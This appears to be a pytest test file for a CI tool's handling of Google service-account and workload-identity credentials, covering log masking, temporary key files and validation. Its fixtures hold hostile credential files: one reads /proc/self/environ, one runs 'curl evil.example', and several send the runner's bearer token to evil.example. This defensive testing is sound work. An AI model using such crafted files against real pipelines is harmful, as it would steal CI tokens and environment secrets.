"""google_credentials: validation without echoing secrets, masking, a private short-lived file."""

from __future__ import annotations

import base64
import io
import json
import re
import stat
import tempfile
from pathlib import Path

import pytest

from mlgate import workflow
from mlgate.gcp import (
    InvalidCredentials,
    google_credentials,
    locate_in_workspace,
    parse_credentials,
    read_credentials_file,
    secret_values,
)
from tests.fakes.gcs import service_account_key

KEY = service_account_key("http://127.0.0.1:9/token")
KEY_JSON = json.dumps(KEY)
PEM_BODY = [line for line in KEY["private_key"].splitlines() if line and not line.startswith("-----")]


@pytest.mark.reliability(
    "secret", "`gcp-credentials` key handed to DVC",
    "key file has mode 0600 and is deleted when the step ends"
)
def test_credentials__yields_private_key_file_and_removes_it_afterwards() -> None:
    with google_credentials(KEY_JSON, mask=lambda _: None) as env:
        path = Path(env["GOOGLE_APPLICATION_CREDENTIALS"])
        assert list(env) == ["GOOGLE_APPLICATION_CREDENTIALS"]
        assert json.loads(path.read_text()) == KEY
        assert stat.S_IMODE(path.stat().st_mode) == 0o600

    assert not path.exists()


@pytest.mark.reliability("secret", "DVC fails while the service-account key file exists", "key file is deleted anyway")
def test_credentials__file_removed_when_the_block_raises() -> None:
    with pytest.raises(RuntimeError), google_credentials(KEY_JSON, mask=lambda _: None) as env:
        path = Path(env["GOOGLE_APPLICATION_CREDENTIALS"])
        raise RuntimeError("dvc failed")

    assert not path.exists()


@pytest.mark.reliability(
    "secret", "one-line JSON key in `gcp-credentials`",
    "masked whole, plus each private-key line, the key id and the client email"
)
def test_credentials__masks_the_one_line_key_whole_and_its_secret_fields() -> None:
    masked: list[str] = []

    with google_credentials(KEY_JSON, mask=masked.append):
        pass

    assert masked == [KEY_JSON, *PEM_BODY, KEY["private_key_id"], KEY["client_email"]]
    # every line of the key, as it appears inside the JSON text (joined by literal \n), is covered
    json_key = json.dumps(KEY["private_key"])
    assert all(line in json_key for line in PEM_BODY)


@pytest.mark.reliability(
    "secret", "pretty-printed JSON key (as `gcloud` writes it)",
    "`::add-mask::` for each private-key line, key id and client email; never a lone `{` or `}`"
)
def test_credentials__pretty_printed_key_masks_only_its_secrets_never_a_brace() -> None:
    pretty = json.dumps(KEY, indent=2)  # what `gcloud iam service-accounts keys create` writes
    out = io.StringIO()

    with workflow.running(in_actions=True), google_credentials(
        pretty, mask=lambda value: workflow.mask(value, stream=out)
    ):
        pass

    pem_lines = KEY["private_key"].strip().split("\n")
    assert pem_lines[0] == "-----BEGIN PRIVATE KEY-----" and pem_lines[-1] == "-----END PRIVATE KEY-----"
    body = [line for line in pem_lines[1:-1] if len(line) >= 4]
    assert out.getvalue().splitlines() == [
        *(f"::add-mask::{line}" for line in body),
        f"::add-mask::{KEY['private_key_id']}",
        f"::add-mask::{KEY['client_email']}",
    ]
    assert "::add-mask::{" not in out.getvalue() and "::add-mask::}" not in out.getvalue()


@pytest.mark.reliability(
    "secret", "PEM key with a line shorter than 4 characters",
    "that line is not sent to `::add-mask::` (it would blank the log); every other secret line is"
)
def test_secret_values__never_a_line_under_4_characters_even_of_the_pem_key() -> None:
    pem = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG\nw==\n-----END PRIVATE KEY-----\n"
    short_tail = {**KEY, "private_key": pem}

    values = secret_values(json.dumps(short_tail, indent=2))

    assert values == ["MIIEvQIBADANBgkqhkiG", KEY["private_key_id"], KEY["client_email"]]


@pytest.mark.reliability(
    "secret", "base64 key, on one line or wrapped at 76 columns",
    "masked whole or line by line, plus its secret fields; the wrapped key still works"
)
def test_secret_values__base64_key_masked_whole_or_line_by_line_when_wrapped() -> None:
    encoded = base64.b64encode(KEY_JSON.encode()).decode()
    wrapped = "\n".join(encoded[i:i + 76] for i in range(0, len(encoded), 76))  # as `base64` writes it

    assert secret_values(encoded) == [encoded, *PEM_BODY, KEY["private_key_id"], KEY["client_email"]]
    assert secret_values(wrapped)[: len(wrapped.splitlines())] == [
        line for line in wrapped.splitlines() if len(line) >= 4
    ]
    with google_credentials(wrapped, mask=lambda _: None) as env:  # and the wrapped form works
        assert json.loads(Path(env["GOOGLE_APPLICATION_CREDENTIALS"]).read_text()) == KEY


@pytest.mark.reliability(
    "secret", "malformed multi-line `gcp-credentials`",
    "each line of 4+ characters is masked; masking does not raise"
)
def test_secret_values__an_unusable_multiline_value_is_masked_line_by_line_without_raising() -> None:
    broken = '{\n  "private_key": "s3cr3t-token-value",\n  "x": 1\n'

    assert secret_values(broken) == ['"private_key": "s3cr3t-token-value",', '"x": 1']


@pytest.mark.reliability(
    "secret", "`github-token` and `gcp-credentials` both set",
    "token masked whole and each secret field of the key masked"
)
def test_cli__masks_gcp_credentials_by_their_secret_fields_and_other_secrets_whole(
    capsys: pytest.CaptureFixture[str],
) -> None:
    from pydantic import SecretStr

    from mlgate.cli import _mask_secrets
    from mlgate.settings import DataStatsSettings

    settings = DataStatsSettings.model_construct(
        data=Path("data"), github_token=SecretStr("ghs_0123456789"),
        gcp_credentials=SecretStr(json.dumps(KEY, indent=2)),
    )
    with workflow.running(in_actions=True):
        _mask_secrets(settings)

    masks = re.findall(r"::add-mask::(.*)", capsys.readouterr().out)
    assert sorted(masks) == sorted(["ghs_0123456789", *PEM_BODY, KEY["private_key_id"], KEY["client_email"]])


def test_credentials__accepts_base64_encoded_key() -> None:
    encoded = base64.b64encode(KEY_JSON.encode()).decode()

    with google_credentials(encoded, mask=lambda _: None) as env:
        assert json.loads(Path(env["GOOGLE_APPLICATION_CREDENTIALS"]).read_text()) == KEY


def test_credentials__written_under_runner_temp_when_it_exists(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RUNNER_TEMP", str(tmp_path))

    with google_credentials(KEY_JSON, mask=lambda _: None) as env:
        assert Path(env["GOOGLE_APPLICATION_CREDENTIALS"]).parent == tmp_path


def test_credentials__missing_runner_temp_falls_back_to_system_temp(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RUNNER_TEMP", str(tmp_path / "host-path-not-mounted"))

    with google_credentials(KEY_JSON, mask=lambda _: None) as env:
        assert Path(env["GOOGLE_APPLICATION_CREDENTIALS"]).parent == Path(tempfile.gettempdir())


def _bad_key(text: str, expected: str, case: str) -> object:
    return pytest.param(text, expected, marks=pytest.mark.reliability(
        "secret", case, f"exit 2: the message says `{expected}`, names `gcp-credentials`, shows what a service-account "
        "key looks like and points to `secrets.`; no part of the value is echoed"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        _bad_key("", "is empty", "`gcp-credentials` empty"),
        _bad_key("s3cr3t-token-value", "neither JSON nor base64", "`gcp-credentials` is a bare token"),
        _bad_key('{"private_key": "s3cr3t-token-value", ', "not valid JSON", "`gcp-credentials` is truncated JSON"),
        _bad_key('["s3cr3t-token-value"]', "not an object", "`gcp-credentials` is a JSON array"),
        _bad_key(json.dumps({"type": "authorized_user", "refresh_token": "s3cr3t-token-value"}), "'authorized_user'",
                 "`gcp-credentials` is a user credential, not a service-account key"),
        _bad_key(json.dumps({**KEY, "private_key": "s3cr3t-token-value"}), "not a PEM key",
                 "`gcp-credentials` whose `private_key` is not PEM"),
        _bad_key(json.dumps({k: v for k, v in KEY.items() if k != "client_email"}), "lacks client_email",
                 "`gcp-credentials` without `client_email`"),
    ],
)
def test_credentials__invalid_key_names_the_input_without_echoing_it(text: str, expected: str) -> None:
    masked: list[str] = []

    with pytest.raises(InvalidCredentials) as caught, google_credentials(text, mask=masked.append):
        pass

    shown = str(caught.value)
    assert "gcp-credentials" in caught.value.message
    assert expected in caught.value.message
    assert '"type": "service_account"' in caught.value.message  # says what a valid key looks like
    assert "secrets." in caught.value.hint
    assert "s3cr3t" not in shown
    assert not any(line in shown for line in PEM_BODY)
    # no chained decoder error (its text could quote the input) reaches a traceback
    assert caught.value.__cause__ is None
    assert caught.value.__context__ is None or caught.value.__suppress_context__


# ---- workload identity federation: the external_account file google-github-actions/auth writes

OIDC_URL = ("https://pipelines.actions.githubusercontent.com/Xq3/_apis/distributedtask/hubs/Actions/plans/"
            "7f3c/jobs/9a1e/idtoken?api-version=2.0")
REQUEST_TOKEN = "eyJhbGciOiJSUzI1NiJ9.runner-request-s3cr3t.c2lnbmF0dXJl"
PROVIDER = "projects/123456789/locations/global/workloadIdentityPools/github/providers/mlgate"


def wif_file(**changes: object) -> dict[str, object]:
    """What google-github-actions/auth@v2 writes, with ``changes`` applied (None deletes a field)."""
    info: dict[str, object] = {
        "type": "external_account",
        "audience": f"//iam.googleapis.com/{PROVIDER}",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": "https://sts.googleapis.com/v1/token",
        "credential_source": {
            "url": f"{OIDC_URL}&audience=https%3A%2F%2Fiam.googleapis.com%2F{PROVIDER.replace('/', '%2F')}",
            "headers": {"Authorization": f"Bearer {REQUEST_TOKEN}"},
            "format": {"type": "json", "subject_token_field_name": "value"},
        },
        "service_account_impersonation_url": "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/"
        "ci@mlgate-test.iam.gserviceaccount.com:generateAccessToken",
    }
    for name, value in changes.items():
        if value is None:
            info.pop(name)
        else:
            info[name] = value
    return info


def with_source(**changes: object) -> dict[str, object]:
    source = dict(wif_file()["credential_source"])  # type: ignore[call-overload]
    source.update(changes)
    return wif_file(credential_source=source)


@pytest.mark.parametrize("impersonate", [
    pytest.param(True, id="impersonation", marks=pytest.mark.reliability(
        "secret", "workload-identity file (`external_account`) in `gcp-credentials`, through a service account",
        "accepted as written; only the runner's bearer token is masked")),
    pytest.param(False, id="direct", marks=pytest.mark.reliability(
        "secret", "workload-identity file (`external_account`) in `gcp-credentials`, direct federation",
        "accepted as written; only the runner's bearer token is masked")),
])
def test_external_account__accepted_and_only_its_bearer_token_masked(impersonate: bool) -> None:
    info = wif_file() if impersonate else wif_file(service_account_impersonation_url=None)
    pretty = json.dumps(info, indent=2)
    masked: list[str] = []

    with google_credentials(pretty, mask=masked.append, id_token_request_url=OIDC_URL) as env:
        assert json.loads(Path(env["GOOGLE_APPLICATION_CREDENTIALS"]).read_text()) == info

    assert masked == [f"Bearer {REQUEST_TOKEN}", REQUEST_TOKEN]


def test_external_account__one_line_file_masked_whole_and_its_token() -> None:
    one_line = json.dumps(wif_file())

    assert secret_values(one_line) == [one_line, f"Bearer {REQUEST_TOKEN}", REQUEST_TOKEN]


def _hostile(info: dict[str, object], expected: str, case: str) -> object:
    return pytest.param(json.dumps(info, indent=2), expected, marks=pytest.mark.reliability(
        "secret", case, f"exit 2 before any request: the message names the input and says `{expected}`; "
        "the bearer token is not echoed"), id=case)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        _hostile(with_source(url=None, file="/proc/self/environ"), "not a URL",
                 "`external_account` reading a local file as its OIDC token"),
        _hostile(with_source(executable={"command": "curl evil.example"}), "not a URL",
                 "`external_account` with an executable credential source"),
        _hostile(with_source(environment_id="aws1"), "not a URL", "`external_account` with an AWS credential source"),
        _hostile(with_source(url="https://evil.example/idtoken?api-version=2.0"), "ACTIONS_ID_TOKEN_REQUEST_URL",
                 "`external_account` sending the runner's request token to another host"),
        _hostile(with_source(url=OIDC_URL.replace("/idtoken", "/other")), "ACTIONS_ID_TOKEN_REQUEST_URL",
                 "`external_account` OIDC URL on the runner's host but another path"),
        _hostile(with_source(url=OIDC_URL + "&redirect=https://evil.example"), "ACTIONS_ID_TOKEN_REQUEST_URL",
                 "`external_account` OIDC URL with an extra query parameter"),
        _hostile(with_source(url=OIDC_URL.replace("https://", "https://user:pw@")), "ACTIONS_ID_TOKEN_REQUEST_URL",
                 "`external_account` OIDC URL with credentials in it"),
        _hostile(with_source(headers={"Authorization": f"Bearer {REQUEST_TOKEN}", "X-Forward": "evil"}),
                 "credential_source.headers", "`external_account` with an extra request header"),
        _hostile(with_source(format={"type": "text"}), "credential_source.format",
                 "`external_account` whose OIDC answer is not read as JSON"),
        _hostile(wif_file(token_url="https://evil.example/v1/token"), "token_url is not Google's STS",
                 "`external_account` exchanging the OIDC token at another host"),
        _hostile(wif_file(token_url="http://sts.googleapis.com/v1/token"), "token_url is not Google's STS",
                 "`external_account` exchanging over plain HTTP"),
        _hostile(wif_file(token_url="https://sts.googleapis.com.evil.example/v1/token"), "token_url",
                 "`external_account` STS look-alike host"),
        _hostile(wif_file(service_account_impersonation_url="https://evil.example/v1/projects/-/serviceAccounts/"
                          "a@b.iam.gserviceaccount.com:generateAccessToken"), "service_account_impersonation_url",
                 "`external_account` sending the STS token to another host"),
        _hostile(wif_file(client_secret="x", client_id="y"), "client_id, client_secret",
                 "`external_account` with fields auth does not write"),
        _hostile(wif_file(universe_domain="evil.example"), "universe_domain",
                 "`external_account` in another universe domain"),
        _hostile(wif_file(audience="https://evil.example"), "audience",
                 "`external_account` whose audience is not a workload identity provider"),
        _hostile(wif_file(subject_token_type="urn:ietf:params:aws:token-type:aws4_request"), "subject_token_type",
                 "`external_account` for AWS tokens"),
    ],
)
def test_external_account__hostile_file_refused_naming_the_field(text: str, expected: str) -> None:
    masked: list[str] = []

    with pytest.raises(InvalidCredentials) as caught, google_credentials(
        text, mask=masked.append, id_token_request_url=OIDC_URL
    ):
        pass

    assert caught.value.message.startswith("gcp-credentials is a workload-identity (external_account) file")
    assert expected in caught.value.message
    assert REQUEST_TOKEN not in str(caught.value) and "evil" not in str(caught.value)
    assert REQUEST_TOKEN in masked  # masked before it was refused


def test_external_account__refused_without_id_token_permission_naming_it() -> None:
    with pytest.raises(InvalidCredentials, match=r"ACTIONS_ID_TOKEN_REQUEST_URL is not set.*id-token: write"):
        parse_credentials(json.dumps(wif_file()), id_token_request_url=None)


def test_external_account__from_the_environment_names_the_variable_and_the_auth_step() -> None:
    with pytest.raises(InvalidCredentials) as caught:
        parse_credentials(json.dumps(wif_file(token_url="https://evil.example/v1/token")),
                          source="GOOGLE_APPLICATION_CREDENTIALS (/home/runner/work/r/r/gha-creds-1.json)",
                          id_token_request_url=OIDC_URL)

    assert caught.value.message.startswith("GOOGLE_APPLICATION_CREDENTIALS (/home/runner/work/r/r/gha-creds-1.json)")
    assert "google-github-actions/auth@v2" in caught.value.hint and "id-token: write" in caught.value.hint


def test_external_account__loopback_endpoints_accepted_for_local_stand_ins() -> None:
    local = "http://127.0.0.1:8123/_apis/idtoken?api-version=2.0"
    info = wif_file(token_url="http://127.0.0.1:9/v1/token", service_account_impersonation_url=None)
    info["credential_source"] = {**info["credential_source"], "url": local + "&audience=x"}  # type: ignore[dict-item]

    assert parse_credentials(json.dumps(info), id_token_request_url=local) == info


# ---- GOOGLE_APPLICATION_CREDENTIALS from an earlier step, seen from inside the container

def test_locate__container_path_used_as_given(tmp_path: Path) -> None:
    creds = tmp_path / "gha-creds-1.json"
    creds.write_text("{}")

    assert locate_in_workspace(str(creds), tmp_path) == creds


def test_locate__host_path_mapped_onto_the_workspace_by_its_tail(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "gha-creds-1.json").write_text("{}")
    (tmp_path / "sub" / "gha-creds-1.json").write_text("{}")

    assert locate_in_workspace("/home/runner/work/r/r/gha-creds-1.json", tmp_path) == tmp_path / "gha-creds-1.json"
    # the longest tail wins: the file the host path names, not a namesake higher up
    assert locate_in_workspace("/home/runner/work/r/r/sub/gha-creds-1.json", tmp_path) == (
        tmp_path / "sub" / "gha-creds-1.json")
    assert locate_in_workspace("gha-creds-1.json", tmp_path) == tmp_path / "gha-creds-1.json"


def test_locate__file_outside_the_workspace_is_not_found(tmp_path: Path) -> None:
    assert locate_in_workspace("/home/runner/_work/_temp/gha-creds-1.json", tmp_path) is None


def test_read_credentials_file__refuses_a_huge_file_without_reading_it_whole(tmp_path: Path) -> None:
    big = tmp_path / "gha-creds-1.json"
    big.write_bytes(b"{" + b" " * (1 << 20) + b"}")

    with pytest.raises(InvalidCredentials, match="over 64 KiB"):
        read_credentials_file(big)
